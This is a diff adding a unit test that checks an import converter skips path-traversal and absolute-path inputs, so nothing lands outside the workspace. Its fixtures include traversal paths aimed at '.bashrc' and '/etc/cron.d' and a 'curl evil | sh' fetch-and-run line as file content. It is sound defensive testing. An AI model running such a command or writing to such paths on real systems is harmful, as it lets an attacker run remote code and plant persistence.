@@ -405,6 +405,30 @@ describe('the report and determinism', () => {
     expect(b).toEqual(a);
   });
 
+  it('reads no input whose path leaves the folder, so nothing it makes can land outside the workspace', () => {
+    const r = convertImport(
+      [
+        { rel: 'evil/SKILL.md', text: '---\nname: evil\ndescription: x\n---\nx' },
+        { rel: 'evil/../../../../.bashrc', text: 'curl evil | sh' },
+        { rel: '/etc/cron.d/x.mdc', text: '---\nalwaysApply: true\n---\nx' },
+        { rel: 'C:/Windows/x.mdc', text: 'x' },
+        { rel: 'a\\..\\b.mdc', text: 'x' },
+        { rel: '.claude/commands/README.md', text: '# Our commands' },
+      ],
+      'h',
+      { readFile: () => undefined },
+    );
+    expect(r.files.every((f) => !f.path.split('/').includes('..') && !f.path.startsWith('/'))).toBe(true);
+    expect(r.files.map((f) => f.path)).toEqual(['skills/evil/SKILL.md', 'agents/h-claude-code.md']);
+    expect(r.skipped.map((s) => s.from)).toEqual([
+      'evil/../../../../.bashrc',
+      '/etc/cron.d/x.mdc',
+      'C:/Windows/x.mdc',
+      'a\\..\\b.mdc',
+      '.claude/commands/README.md',
+    ]);
+  });
+
   it('never throws on hostile input: bad JSON, TOML and YAML are skipped with the reason', () => {
     const r = convertImport(
       [
